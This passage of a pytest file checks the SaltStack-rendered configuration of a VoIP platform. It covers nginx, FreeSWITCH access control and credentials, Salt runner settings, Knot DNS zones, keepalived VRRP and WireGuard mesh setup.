    assert "kamailio_sip_uri" not in settings  # the b-leg goes back to the Kamailio the call came from
    assert settings["redis_url"] == f"redis://:{secrets['redis']['password']}@{net}.11:6379/0"
    assert settings["jwt_keys"] == [secrets["api"]["jwt_key"]]
    assert settings["platform_admins"] == {"admin": secrets["api"]["admin_password_hash"]}
    assert settings["esl_password"] == secrets["freeswitch"]["esl_password"] and settings["esl_port"] == 8021
    # Event-socket connections leave from the address the nodes' ACL allows.
    assert settings["esl_source_address"] == f"{net}.30"
    # The freeswitch formula's profile and inbound context, so the dialplan matches the nodes.
    assert (settings["freeswitch_profile"], settings["freeswitch_inbound_context"]) == ("internal", "kamailio")
    # Provisioning pokes the coordinator's salt-master; the lab runs none.
    assert settings["salt_webhook_url"] == ("" if minion_id.startswith("lab-")
                                            else "http://127.0.0.1:8000/gopbx/provision")
    for unit in (files["/etc/systemd/system/gopbx-api.service"], files["/etc/init.d/gopbx-api"]):
        assert f"--host {net}.30" in unit and "--port 8080" in unit
    for unit in (files["/etc/systemd/system/gopbx-call-events.service"], files["/etc/init.d/gopbx-call-events"]):
        assert "/opt/gopbx/api/venv/bin/python" in unit and "-m gopbx_api.call_events" in unit


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_nginx_terminates_https_for_the_api_and_grafana(rendered, minion_id):
    conf = rendered(minion_id)["/etc/nginx/nginx.conf"]
    net = "127.28.0" if minion_id.startswith("lab-") else "172.28.0"
    listens = [f"{net}.13"] + ([] if minion_id.startswith("lab-") else ["149.28.188.104"])
    for address in listens:
        assert f"listen {address}:80;" in conf and f"listen {address}:443 ssl http2;" in conf
    assert "listen 80" not in conf and "0.0.0.0" not in conf  # never every address
    assert "server_name api.gopbx.au;" in conf and f"server {net}.30:8080;" in conf
    assert f"proxy_pass http://{net}.41:3000;" in conf
    sse = conf[conf.index("/events$"):]
    assert "proxy_buffering off;" in sse[:sse.index("}")] and "proxy_read_timeout 3600s;" in sse[:sse.index("}")]
    assert "client_max_body_size 64k;" in conf and "Strict-Transport-Security" in conf
    assert "nginx: the configuration file" in checkers.check_nginx(conf)


# --- FreeSWITCH media node (FreeSWITCH itself can't be installed here) ---


def _params(element):
    return {param.get("name"): param.get("value") for param in element.iter("param")}


@pytest.mark.parametrize("minion_id", COORDINATORS)
def test_the_salt_master_gets_its_runners_settings_for_root_only(env, rendered, lowstate, minion_id, tmp_path):
    net = "127.28.0" if minion_id.startswith("lab-") else "172.28.0"
    secrets = _secrets(env, minion_id)
    text = rendered(minion_id)["/etc/salt/master.d/gopbx-runner.conf"]
    chunk = next(chunk for chunk in lowstate(minion_id) if chunk["__id__"] == "salt-master-runner-config-managed")
    assert chunk["mode"] == "0600" and chunk["show_changes"] is False
    # The runner reads it from beside the master's config, at every call.
    (tmp_path / "master.d").mkdir()
    (tmp_path / "master.d" / "gopbx-runner.conf").write_text(text)
    runner = load_module("_runners", "gopbx")
    runner.__opts__ = {"conf_file": str(tmp_path / "master")}
    runner.__utils__ = {"gopbx_runner.settings": load_module("_utils", "gopbx_runner").settings}
    settings = runner._settings()
    assert settings["database_dsn"] == (f"host={net}.12 port=5432 dbname=gopbx user=gopbx_salt "
                                        f"password={secrets['postgres']['salt']}")
    assert settings["kamailio_rpc_url"] == f"http://{net}.15:8080/jsonrpc"
    assert settings["api_url"] == f"http://{net}.30:8080"
    assert settings["database_hosts"] == ([] if minion_id.startswith("lab-") else ["coord-syd-1", "pgrep-syd-1"])
    assert settings["redis_url"] == f"redis://:{secrets['redis']['password']}@{net}.11:6379/0"
    # Media nodes register from their own network (freeswitch:node_network by default).
    assert settings["allowed_networks"] == ["10.28.0.0/20"] and settings["placement"] == {}
    # salt-cloud's Vultr key, from encrypted pillar, for root alone.
    key = next(chunk for chunk in lowstate(minion_id) if chunk["__id__"] == "salt-master-vultr-key-managed")
    assert (key["name"], key["mode"], key["contents"]) == ("/etc/salt/vultr-api-key", "0600",
                                                           secrets["vultr"]["api_key"])


@pytest.fixture(scope="module")
def freeswitch(env, rendered):
    files = rendered("fs-syd-1")
    document, variables = checkers.check_freeswitch(files)
    configurations = {conf.get("name"): conf for conf in document.find("section[@name='configuration']")}
    return {"files": files, "document": document, "variables": variables, "conf": configurations}


def test_freeswitch_config_is_well_formed_and_complete(freeswitch):
    document = freeswitch["document"]
    assert document.tag == "document" and document.get("type") == "freeswitch/xml"
    assert set(freeswitch["conf"]) == {"acl.conf", "console.conf", "event_socket.conf", "hash.conf", "logfile.conf",
                                       "modules.conf", "opus.conf", "sofia.conf", "switch.conf", "xml_curl.conf"}
    modules = [load.get("module") for load in freeswitch["conf"]["modules.conf"].iter("load")]
    for needed in ("mod_sofia", "mod_xml_curl", "mod_event_socket", "mod_hash", "mod_dialplan_xml", "mod_dptools"):
        assert needed in modules
    assert modules.index("mod_xml_curl") < modules.index("mod_sofia")
    # Nothing on disk to fall through to: users and dialplans come only from the API.
    for section in ("dialplan", "directory"):
        found = document.findall(f"section[@name='{section}']")
        assert len(found) == 1 and len(found[0]) == 0
    assert not [path for path in freeswitch["files"] if "/directory/" in path or "/dialplan/" in path]


def test_freeswitch_fetches_users_and_dialplans_with_its_own_credentials(env, freeswitch):
    bindings = {binding.get("name"): binding for binding in freeswitch["conf"]["xml_curl.conf"].iter("binding")}
    assert set(bindings) == {"directory", "dialplan"}
    _, credentials = salt_call(env["config"], "gopbx_freeswitch.xml_curl_credentials", minion_id="fs-syd-1")
    assert credentials["username"] == "fs-syd-1"
    for name, binding in bindings.items():
        url = binding.find("param[@name='gateway-url']")
        assert url.get("value") == f"http://172.28.0.30:8080/v1/freeswitch/{name}" and url.get("bindings") == name
        params = _params(binding)
        assert params["gateway-credentials"] == f"fs-syd-1:{credentials['password']}"
        assert params["auth-scheme"] == "basic"
        # From the node's own address, the one the API checks (not the routing table's choice).
        assert params["bind-local"] == FS_ADDRESS
    # The hash the node announces is one the API accepts for that password.
    passwords = load_module("api/gopbx_api", "passwords")
    assert passwords.verify_password(credentials["password"], credentials["password_hash"])
    assert not passwords.verify_password(credentials["password"] + "x", credentials["password_hash"])


def test_freeswitch_event_socket_is_private_and_for_the_coordinator(env, freeswitch):
    settings = _params(freeswitch["conf"]["event_socket.conf"])
    assert settings["listen-ip"] == FS_ADDRESS and settings["listen-port"] == "8021"
    assert settings["password"] == env["secrets"]["freeswitch"]["esl_password"]
    lists = {item.get("name"): item for item in freeswitch["conf"]["acl.conf"].iter("list")}
    acl = lists[settings["apply-inbound-acl"]]
    assert acl.get("default") == "deny"
    assert [(node.get("type"), node.get("cidr")) for node in acl] == [("allow", "172.28.0.30/32"),
                                                                       ("allow", f"{FS_ADDRESS}/32")]
    # As FreeSWITCH applies it: the API's plan address (where call-events connects
    # from, esl_source_address) and fs_cli on the node; the coordinator's other addresses not.
    assert freeswitch_rules.acl_allows(acl, "172.28.0.30") and freeswitch_rules.acl_allows(acl, FS_ADDRESS)
    assert not freeswitch_rules.acl_allows(acl, "172.28.0.13") and not freeswitch_rules.acl_allows(acl, "10.28.0.2")


def test_freeswitch_takes_calls_from_kamailio_only(freeswitch):
    profiles = list(freeswitch["conf"]["sofia.conf"].iter("profile"))
    assert [profile.get("name") for profile in profiles] == ["internal"]
    settings = _params(profiles[0])
    assert settings["sip-ip"] == FS_ADDRESS and settings["rtp-ip"] == FS_ADDRESS and settings["sip-port"] == "5080"
    assert settings["context"] == "kamailio" and settings["dialplan"] == "XML"
    # Outside the ACL and with auth-calls off, sofia answers 403 rather than a challenge.
    assert settings["auth-calls"] == "false" and settings["disable-register"] == "true"
    lists = {item.get("name"): item for item in freeswitch["conf"]["acl.conf"].iter("list")}
    acl = lists[settings["apply-inbound-acl"]]
    assert acl.get("default") == "deny"
    # The plan's Kamailio address, and the floating IP Kamailio sends from on either host.
    assert [(node.get("type"), node.get("cidr")) for node in acl] == [("allow", "172.28.0.15/32"),
                                                                       ("allow", "103.43.75.51/32")]
    assert settings["inbound-codec-prefs"] == "OPUS,G722,PCMU,PCMA"
    # Deprecated in 1.10 (a warning at every start): the media_timeout variables instead.
    assert not {"rtp-timeout-sec", "rtp-hold-timeout-sec"} & set(settings)


def test_freeswitch_keeps_gopbx_headers_and_leaves_srtp_to_the_edge(freeswitch):
    variables = freeswitch["variables"]
    assert variables["sip_copy_custom_headers"] == "false"
    # RTPEngine offers devices optional SRTP; FreeSWITCH's own offer (an SAVP and an
    # AVP audio line) would reach the device as two audio lines.
    assert "rtp_secure_media" not in variables
    assert (variables["media_timeout"], variables["media_hold_timeout"]) == ("300000", "1800000")
    switch = _params(freeswitch["conf"]["switch.conf"])
    assert switch["max-sessions"] == "400" and switch["rtp-start-port"] == "16384"


def test_freeswitch_config_dir_holds_only_what_salt_renders(lowstate):
    chunks = lowstate("fs-syd-1")
    directory = next(chunk for chunk in chunks if chunk["state"] == "file" and chunk["fun"] == "directory")
    assert directory["name"] == "/etc/freeswitch" and directory["clean"] is True
    managed = {chunk["__id__"] for chunk in chunks if chunk["state"] == "file" and chunk["fun"] == "managed"
               and chunk["name"].startswith("/etc/freeswitch/")}
    assert {item["file"] for item in directory["require"] if "file" in item} == managed
    service = next(chunk for chunk in chunks if chunk["state"] == "service")
    assert "watch" not in service  # a restart would drop every call; config changes reload instead
    # Every file's change is answered by a reload, and by one that applies it, as
    # FreeSWITCH's source says (reloadxml leaves mod_xml_curl's bindings alone).
    reloads = {chunk["name"]: [item["file"] for item in chunk["onchanges"]] for chunk in chunks
               if chunk["state"] == "cmd" and chunk["name"].startswith("fs_cli ")}
    assert {state_id for ids in reloads.values() for state_id in ids} == managed
    by_command = {command: [state_id.removeprefix("freeswitch-config-").removesuffix("-managed") for state_id in ids]
                  for command, ids in reloads.items()}
    assert freeswitch_rules.reload_refusals(by_command) == []
    assert by_command["fs_cli -x 'reload mod_xml_curl'"] == ["autoload_configs/xml_curl.conf.xml"]


def test_a_lab_node_runs_the_named_double_in_place_of_the_freeswitch_package(env):
    # freeswitch:binary double (the multi-host lab): no package, no repository, the
    # double's service, and the rest of the formula as on production.
    _, chunks = salt_call(env["config"], "state.show_low_sls", "freeswitch",
                          'pillar={"freeswitch": {"binary": "double", "repo": false}}', minion_id="fs-syd-1")
    assert not [chunk for chunk in chunks if chunk["state"] in ("pkg", "pkgrepo") and chunk["__sls__"] == "freeswitch"]
    double = [chunk["__id__"] for chunk in chunks if chunk["__sls__"] == "freeswitch_double"]
    assert "freeswitch-double-unit-managed" in double
    service = next(chunk for chunk in chunks if chunk["state"] == "service" and chunk["name"] == "freeswitch")
    assert {"sls": "freeswitch_double"} in service["require"]


def test_freeswitch_node_announces_itself_after_its_formula(env, lowstate):
    chunks = lowstate("fs-syd-1")
    event = next(chunk for chunk in chunks if chunk["state"] == "event")
    written = next(chunk for chunk in chunks if chunk["__id__"] == "freeswitch-ready-announcement-written")
    # What it announces is written first (the master asks the node for it), after the formula.
    assert written["require"] == [{"sls": "freeswitch"}]
    assert event["name"] == "gopbx/freeswitch/ready" and event["require"] == [
        {"file": "freeswitch-ready-announcement-written"}]
    _, credentials = salt_call(env["config"], "gopbx_freeswitch.xml_curl_credentials", minion_id="fs-syd-1")
    assert event["data"] == {"address": FS_ADDRESS, "capacity": 200,
                             "xml_curl_password_hash": credentials["password_hash"]}
    assert json.loads(written["contents"]) == event["data"]
    assert chunks[-1]["__id__"] == "freeswitch-ready-recorded"


def test_production_keeps_the_seeds_zone_in_vultr_and_never_overwrites_the_failover_name(lowstate):
    (chunk,) = [chunk for chunk in lowstate("coord-syd-1") if chunk["state"] == "gopbx_dns"]
    assert chunk["name"] == "gopbx.au" and chunk["failover_names"] == ["sip"]
    records = {(r["name"], r["type"], r["data"], r["ttl"], r["priority"]) for r in chunk["records"]}
    assert records == {
        ("api", "A", "149.28.188.104", 300, 0), ("sip", "A", "103.43.75.51", 30, 0),
        ("sip-mel", "A", "45.76.112.9", 30, 0),
        *{(service, "SRV", f"0 {port} {site}.gopbx.au", 30, priority)
          for service, port in (("_sip._udp", 5060), ("_sip._tcp", 5060), ("_sips._tcp", 5061))
          for site, priority in (("sip", 10), ("sip-mel", 20))}}


def test_knot_serves_the_zones_rendered_from_pillar(rendered, lowstate, tmp_path):
    import jinja2

    lab = rendered("lab-coord-1")
    assert "listen: 127.28.0.53@53" in lab["/etc/knot/knot.conf"]
    # The production records, as Knot would serve them (production keeps them in Vultr).
    (chunk,) = [chunk for chunk in lowstate("coord-syd-1") if chunk["state"] == "gopbx_dns"]
    template = jinja2.Template((REPO / "salt" / "dns" / "files" / "zone.jinja").read_text())
    au_zone = template.render(dns={"zone": "gopbx.au", "ttl": 300, "records": chunk["records"],
                                   "nameservers": ["ns1.gopbx.au"], "hostmaster": "hostmaster.gopbx.au"})
    process, port = checkers.serve_knot(lab["/etc/knot/knot.conf"], {
        "gopbx.lab.invalid": lab["/var/lib/knot/gopbx.lab.invalid.zone"], "gopbx.au": au_zone}, tmp_path)
    try:
        assert wait_for(lambda: _answers(port, "api.gopbx.lab.invalid", "A"), timeout=10), process.stdout
        assert checkers.kdig(port, "sip.gopbx.lab.invalid", "A") == [("sip.gopbx.lab.invalid.", "30", "A", "127.0.0.1")]
        assert checkers.kdig(port, "_sip._udp.gopbx.lab.invalid", "SRV") == [
            ("_sip._udp.gopbx.lab.invalid.", "30", "SRV", "10 0 5060 sip.gopbx.lab.invalid.")]
        for service, port_number in (("_sip._udp", 5060), ("_sip._tcp", 5060), ("_sips._tcp", 5061)):
            assert sorted(checkers.kdig(port, f"{service}.gopbx.au", "SRV")) == [
                (f"{service}.gopbx.au.", "30", "SRV", f"10 0 {port_number} sip.gopbx.au."),
                (f"{service}.gopbx.au.", "30", "SRV", f"20 0 {port_number} sip-mel.gopbx.au.")]
        assert checkers.kdig(port, "api.gopbx.au", "A") == [("api.gopbx.au.", "300", "A", "149.28.188.104")]
        assert checkers.kdig(port, "sip-mel.gopbx.au", "A") == [("sip-mel.gopbx.au.", "30", "A", "45.76.112.9")]
        # Authoritative for its zones only: no answer for anything else.
        assert checkers.kdig(port, "example.com", "A") == []
    finally:
        process.terminate()
        process.wait(timeout=10)


def _answers(port, name, record_type):
    try:
        return checkers.kdig(port, name, record_type)
    except subprocess.CalledProcessError:
        return []


def test_vrrp_is_taken_from_the_keepalived_peers_alone(lowstate):
    def vrrp(minion_id):
        block = [chunk for chunk in lowstate(minion_id) if chunk["__id__"] == "firewall-vrrp-peers-allowed"]
        return sorted(re.findall(r"^-A ufw-before-input -p vrrp -s (\S+) -j ACCEPT$", block[0]["content"], re.M)) \
            if block else []

    assert vrrp("coord-syd-1") == ["10.29.0.2"] and vrrp("kam-mel-1") == ["10.29.0.1"]
    assert vrrp("fs-syd-1") == [] and vrrp("pgrep-syd-1") == []


def test_keepalived_is_accepted_by_keepalived_and_sends_adverts_over_the_mesh(rendered, tmp_path):
    for minion_id, me, peer in (("coord-syd-1", "10.29.0.1", "10.29.0.2"), ("kam-mel-1", "10.29.0.2", "10.29.0.1")):
        conf = rendered(minion_id)["/etc/keepalived/keepalived.conf"]
        assert "interface wg-gopbx" in conf and f"unicast_src_ip {me}" in conf and f"        {peer}\n" in conf
        assert "advert_int 0.1" in conf and "state BACKUP" in conf
        checked, log = checkers.check_keepalived(conf, tmp_path / minion_id)
        assert checked.returncode == 0 and log == "", log
    # Only Sydney's host holds Sydney's reserved IP; Melbourne is reached by the SIP name.
    assert "103.43.75.51/32 dev enp1s0" in rendered("coord-syd-1")["/etc/keepalived/keepalived.conf"]
    assert "103.43.75.51" not in rendered("kam-mel-1")["/etc/keepalived/keepalived.conf"]
    edge = json.loads(rendered("kam-mel-1")["/etc/gopbx/edge.json"])
    assert edge["location"] == "mel" and edge["public_address"] == "45.76.112.9" and edge["api_key"]


def test_the_mesh_lists_its_peers_once_the_mine_has_their_keys(rendered):
    conf = rendered("coord-syd-1")["/etc/wireguard/wg-gopbx.conf"]
    assert "Address = 10.29.0.1/24" in conf and "ListenPort = 51820" in conf
    assert "PostUp = wg set %i private-key /etc/wireguard/wg-gopbx.key" in conf and "PrivateKey" not in conf
    # No minion has published its key here (masterless): each peer waits for its next highstate.
    assert "# kam-mel-1: no well-formed public key in the mine yet" in conf and "[Peer]" not in conf
